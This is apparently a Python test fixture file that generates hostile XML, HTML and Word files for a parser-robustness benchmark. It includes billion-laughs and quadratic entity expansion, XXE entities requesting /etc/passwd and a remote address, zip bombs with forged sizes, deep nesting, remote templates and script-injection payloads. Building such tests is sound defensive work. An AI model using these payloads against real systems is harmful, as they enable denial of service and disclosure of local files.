"""Hostile XML, HTML and Word files."""

from __future__ import annotations

import io
import zipfile

from benchmarks.hostile_case import Case

_SENTENCE = "Operators shall keep the records of the trial and report every incident to the bureau. "
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_AKN = "http://docs.oasis-open.org/legaldocml/ns/akn/3.0"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
_MAIN = f"{_WORD}.document.main+xml"
_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"


def _html(body: str, head: str = "<title>Trial</title>") -> bytes:
    return f"<!DOCTYPE html><html><head>{head}</head><body><p>{_SENTENCE}</p>{body}</body></html>".encode()


def _entities(declared: str, used: str) -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE l [{declared}]><l><p>{_SENTENCE}</p><p>{used}</p></l>'.encode()


def _laughs() -> str:
    return '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    )


def zipped(members: dict[str, bytes | str]) -> bytes:
    """A zip archive."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as bundle:
        for name, content in members.items():
            bundle.writestr(name, content)
    return file.getvalue()


def word(
    body: str, *, kind: str = _MAIN, relations: str = "", more: dict[str, bytes | str] | None = None, head: str = ""
) -> bytes:
    """A DOCX file, part by part."""
    overrides = "".join(
        f'<Override PartName="/word/{name}.xml" ContentType="{_WORD}.{name}+xml"/>' for name in ("numbering", "styles")
    )
    types = (
        f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.'
        f'openxmlformats-package.relationships+xml"/><Default Extension="html" ContentType="text/html"/>'
        f'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Default Extension="xml" ContentType="{kind}"/>{overrides}</Types>'
    )
    main = f'<Relationship Id="a" Type="{_R}/officeDocument" Target="word/document.xml"/>'
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": types,
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}/relationships">{main}</Relationships>',
        "word/document.xml": f'{head}<w:document xmlns:w="{_W}" xmlns:r="{_R}"><w:body>{body}</w:body></w:document>',
    }
    if relations:
        members["word/_rels/document.xml.rels"] = (
            f'<Relationships xmlns="{_PACKAGE}/relationships">{relations}</Relationships>'
        )
    return zipped({**members, **(more or {})})


def _p(text: str = _SENTENCE, properties: str = "") -> str:
    return f"<w:p>{properties}<w:r><w:t>{text}</w:t></w:r></w:p>"


def _relation(kind: str, target: str, mode: str = "") -> str:
    return f'<Relationship Id="x" Type="{_R}/{kind}" Target="{target}"{mode}/>'


def _embedded(times: int, html: str) -> bytes:
    body = _p() + '<w:altChunk r:id="x"/>' * times
    return word(body, relations=_relation("aFChunk", "chunk.html"), more={"word/chunk.html": html})


def _remote() -> bytes:
    mode = ' TargetMode="External"'
    chunk = _relation("aFChunk", "http://203.0.113.1/chunk.html", mode)
    template = _relation("attachedTemplate", "http://203.0.113.1/t.dotm", mode).replace('"x"', '"y"')
    return word(f'{_p()}<w:altChunk r:id="x"/>', relations=chunk + template)


def _numbering(level: str) -> str:
    return (
        f'<w:numbering xmlns:w="{_W}"><w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0">{level}</w:lvl>'
        "</w:abstractNum>"
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    )


def _numbered(times: int, level: str, depth: str = "0") -> bytes:
    properties = f'<w:pPr><w:numPr><w:ilvl w:val="{depth}"/><w:numId w:val="1"/></w:numPr></w:pPr>'
    body = _p(properties=properties) * times
    return word(body, relations=_relation("numbering", "numbering.xml"), more={"word/numbering.xml": _numbering(level)})


def _cyclic() -> bytes:
    style = '<w:style w:type="paragraph" w:styleId="{0}"><w:name w:val="{0}"/><w:basedOn w:val="{1}"/></w:style>'
    styles = f'<w:styles xmlns:w="{_W}">{style.format("A", "B")}{style.format("B", "A")}</w:styles>'
    link = '<w:pStyle w:val="A"/><w:start w:val="99999999999999999999"/><w:lvlText w:val="%1%1%9"/>'
    properties = '<w:pPr><w:pStyle w:val="A"/><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'
    relations = _relation("styles", "styles.xml").replace('"x"', '"y"') + _relation("numbering", "numbering.xml")
    return word(
        _p(properties=properties) * 3,
        relations=relations,
        more={"word/styles.xml": styles, "word/numbering.xml": _numbering(link)},
    )


def _overlapping() -> bytes:
    """A thousand entries of one archive that share the same packed bytes."""
    good = zipped({"word/document.xml": bytes(4_000_000)})
    directory = good.index(b"PK\x01\x02")
    end = good.index(b"PK\x05\x06")
    entry = good[directory:end]
    tail = bytearray(good[end:])
    tail[8:12] = (1000).to_bytes(2, "little") * 2
    tail[12:16] = (1000 * len(entry)).to_bytes(4, "little")
    return good[:directory] + entry * 1000 + bytes(tail)


def _lying() -> bytes:
    """A part that says it unpacks to 100 bytes, and unpacks to 50 MB."""
    relations = _relation("aFChunk", "chunk.html")
    bomb = bytearray(word('<w:altChunk r:id="x"/>', relations=relations, more={"word/chunk.html": bytes(50_000_000)}))
    for mark, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = bomb.rindex(mark)
        bomb[at + place : at + place + 4] = (100).to_bytes(4, "little")
    return bytes(bomb)


def _tables() -> bytes:
    return _html("<table><tr><td>" * 1500 + _SENTENCE + "</td></tr></table>" * 1500)


_LAUGHS = _laughs()
_STEAL = '<!ENTITY x SYSTEM "{}">'
_QUADRATIC = f'<!ENTITY a "{"ha" * 50_000}">'
_SCRIPT = "<script>alert(1)</script>"
_ONLOAD = '<img src=x onerror="alert(1)"><svg onload="alert(1)"><a href="javascript:alert(1)">bind</a>'
_DEEP_SDT = "<w:sdt><w:sdtContent>" * 3000 + _p() + "</w:sdtContent></w:sdt>" * 3000

CASES = (
    Case(
        "billion-laughs.xml",
        "entities that unfold to 10,000 million characters",
        "read",
        lambda: _entities(_LAUGHS, "&j;"),
    ),
    Case(
        "quadratic.xml",
        "an entity of 100 kB used 20,000 times",
        "unusable",
        lambda: _entities(_QUADRATIC, "&a;" * 20_000),
    ),
    Case(
        "local-file.xml",
        "XML that asks for /etc/passwd",
        "read",
        lambda: _entities(_STEAL.format("file:///etc/passwd"), "&x;"),
    ),
    Case(
        "remote-entity.xml",
        "XML that asks for a page of the network",
        "read",
        lambda: _entities(_STEAL.format("http://203.0.113.1/x"), "&x;"),
    ),
    Case(
        "deep.xml",
        "XML nested 100,000 deep",
        "RGA-1006",
        lambda: b"<?xml version='1.0'?>" + b"<p>" * 100_000 + b"x" + b"</p>" * 100_000,
    ),
    Case(
        "akn-laughs.xml",
        "Akoma Ntoso with entities that unfold without end",
        "RGA-1004",
        lambda: (
            _entities(_LAUGHS, "&j;")
            .replace(b"<l>", f'<akomaNtoso xmlns="{_AKN}">'.encode())
            .replace(b"</l>", b"</akomaNtoso>")
        ),
    ),
    Case(
        "akn-deep.xml",
        "Akoma Ntoso nested 100,000 deep",
        "RGA-1004",
        lambda: f'<akomaNtoso xmlns="{_AKN}"><act>'.encode() + b"<p>" * 100_000,
    ),
    Case("deep.html", "a web page of 100,000 boxes in boxes", "RGA-1006", lambda: _html("<div>" * 100_000)),
    Case("tables.html", "1,500 tables in tables", "RGA-1006", _tables),
    Case(
        "attributes.html",
        "one tag with a million attributes",
        "read",
        lambda: _html(f"<p {'a=1 ' * 1_000_000}>{_SENTENCE}</p>"),
        quick=False,
    ),
    Case("unclosed-comments.html", "a million comments that never end", "read", lambda: _html("<!--" * 1_000_000)),
    Case(
        "unclosed-quotes.html",
        "300,000 tags with quotes that never end",
        "read",
        lambda: _html("<a b=\"<a c='" * 300_000),
        quick=False,
    ),
    Case("brackets.html", "a million opening brackets", "poor", lambda: _html("< " * 1_000_000), quick=False),
    Case(
        "entities.html",
        "a million character references",
        "poor",
        lambda: _html("&#65;&#x1F600;&amp;&nosuch;" * 50_000),
        quick=False,
    ),
    Case(
        "broken-lists.html",
        "100,000 lists and cells that are never closed",
        "read",
        lambda: _html("<li>a<td>b<ol start=9999999999>" * 600),
    ),
    Case(
        "breaks.html", "600,000 line breaks with a word each", "RGA-1006", lambda: _html("w<br>" * 600_000), quick=False
    ),
    Case(
        "script.html",
        "a page whose title, words and pictures carry scripts",
        "read",
        lambda: _html(
            _SCRIPT + _ONLOAD + f"<h1>&lt;script&gt;alert(1)&lt;/script&gt; Act</h1><p>{_SENTENCE}</p>",
            f"<title>{_SCRIPT}</title>",
        ),
        page=True,
    ),
    Case(
        "zip-bomb.docx",
        "a Word file of 300 kB that unpacks to 300 MB",
        "RGA-1006",
        lambda: word(_p(), more={"word/a.xml": bytes(300_000_000)}),
        quick=False,
    ),
    Case("overlapping.docx", "an archive whose thousand entries share the same bytes", "RGA-1006", _overlapping),
    Case("lying-size.docx", "a part that hides how large it unpacks", "RGA-1004", _lying),
    Case(
        "many-parts.docx",
        "an archive of 20,000 parts",
        "RGA-1006",
        lambda: word(_p(), more={f"word/{n}": b"" for n in range(20_000)}),
        quick=False,
    ),
    Case(
        "nested.zip",
        "an archive in an archive in an archive",
        "RGA-1003",
        lambda: zipped({"b.zip": zipped({"c.zip": zipped({"d.docx": word(_p())})})}),
    ),
    Case(
        "laughs.docx",
        "a Word file with entities that unfold without end",
        "RGA-1004",
        lambda: word(_p("&j;"), head=f"<!DOCTYPE l [{_LAUGHS}]>"),
    ),
    Case(
        "local-file.docx",
        "a Word file that asks for /etc/passwd",
        "read",
        lambda: word(_p("&x;") + _p(), head=f"<!DOCTYPE l [{_STEAL.format('file:///etc/passwd')}]>"),
    ),
    Case("deep.docx", "a Word file nested 3,000 deep", "RGA-1006", lambda: word(_DEEP_SDT)),
    Case("remote.docx", "a Word file whose text and template stand on the network", "read", _remote),
    Case(
        "chunk-again.docx",
        "a Word file that shows one part of 1 MB 10,000 times",
        "RGA-1006",
        lambda: _embedded(10_000, f"<html><p>{_SENTENCE * 12_000}</p></html>"),
        quick=False,
    ),
    Case(
        "chunk-script.docx",
        "a Word file whose embedded page carries scripts",
        "read",
        lambda: _embedded(1, f"<html>{_SCRIPT}<p>{_SENTENCE}{_ONLOAD}</p></html>"),
        page=True,
    ),
    Case(
        "macro.docm",
        "a Word file with macros",
        "read",
        lambda: word(_p() * 3, kind=_MACRO, more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    ),
    Case(
        "numbers.docx",
        "numbers of 100,000 characters before 5,000 paragraphs",
        "read",
        lambda: _numbered(5_000, f'<w:lvlText w:val="{"%1" * 50_000}"/>'),
        quick=False,
    ),
    Case(
        "odd-numbers.docx",
        "numbers at a depth that is no number",
        "read",
        lambda: _numbered(3, '<w:lvlText w:val="%1."/>', "deep"),
    ),
    Case(
        "cyclic-styles.docx",
        "styles based on each other, and a list that begins with 99999999999999999999",
        "read",
        _cyclic,
    ),
    Case("truncated.docx", "a Word file cut off in the middle", "RGA-1004", lambda: word(_p() * 50)[:600]),
    Case(
        "no-text-part.docx",
        "a Word file without its text",
        "RGA-1004",
        lambda: zipped({"word/styles.xml": b"<a/>", "[Content_Types].xml": b"<Types/>"}),
    ),
    Case(
        "truncated.html",
        "a web page cut off inside a tag",
        "read",
        lambda: _html(f"<p>{_SENTENCE}</p><p class='a")[:-14],
    ),
    Case("truncated.xml", "XML cut off inside a tag", "read", lambda: _entities("", _SENTENCE)[:-9]),
)
